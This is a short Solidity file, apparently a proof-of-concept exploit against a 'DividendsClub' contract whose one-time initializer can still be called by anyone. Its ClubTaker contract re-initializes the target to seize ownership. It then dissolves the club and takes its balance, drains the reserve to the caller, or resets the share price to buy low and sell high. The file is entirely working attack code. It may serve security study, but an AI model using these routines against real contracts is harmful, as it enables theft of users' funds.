// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IClub {
    function DividendsClub(uint256 price, uint256 feeBps) external;

    function sharePrice() external view returns (uint256);

    function entryFeeBps() external view returns (uint256);

    function reserve() external view returns (uint256);

    function setClosed(bool on) external;

    function dissolve() external;

    function useReserve(address to, uint256 amount) external;

    function transferOwnership(address to) external;

    function buy() external payable;

    function sell(uint256 shares) external;
}

/// Becomes the owner by the function that was meant to run once.
contract ClubTaker {
    function run(IClub club) external {
        club.DividendsClub(club.sharePrice(), club.entryFeeBps());
        club.setClosed(true);
        club.dissolve();
        payable(msg.sender).transfer(address(this).balance);
    }

    function runForReserve(IClub club) external {
        club.DividendsClub(club.sharePrice(), club.entryFeeBps());
        club.useReserve(msg.sender, club.reserve());
        club.transferOwnership(msg.sender);
    }

    /// Buys at a price of its own and sells at another.
    function runByPrice(IClub club, uint256 shares) external payable {
        club.DividendsClub(msg.value / shares, 0);
        club.buy{value: msg.value}();
        club.DividendsClub(address(club).balance / shares, 0);
        club.sell(shares);
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}
